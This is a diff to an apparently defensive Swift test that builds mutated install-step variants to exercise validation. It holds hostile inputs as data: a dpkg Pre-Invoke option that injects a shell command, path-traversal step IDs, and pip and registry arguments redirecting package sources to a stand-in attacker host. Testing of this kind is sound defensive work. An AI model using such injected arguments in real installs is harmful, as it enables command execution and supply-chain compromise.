@@ -27,7 +27,15 @@ import Testing
         changed = step
         changed.adjustment = StepAdjustment(remediation: "r", extraArguments: ["-oDPkg::Pre-Invoke::=touch /tmp/x" + payload])
         variants.append(changed)
+        changed = step
+        changed.id = StepID(["../../tmp/x", "/etc/x", ".hidden", "a/b"][Int(generator.next() % 4)] + payload)
+        variants.append(changed)
         switch step.action {
+        case .tool(var parameters) where parameters.installer != nil:
+            parameters.arguments.insert(["--pip-args=--index-url=http://evil.example", "--python=/tmp/x", "--registry=http://evil"][Int(generator.next() % 3)], at: 0)
+            changed = step
+            changed.action = .tool(parameters)
+            variants.append(changed)
         case .packages(var parameters):
             parameters.extraArguments = ["--index-url=http://evil.example" + payload]
             changed = step
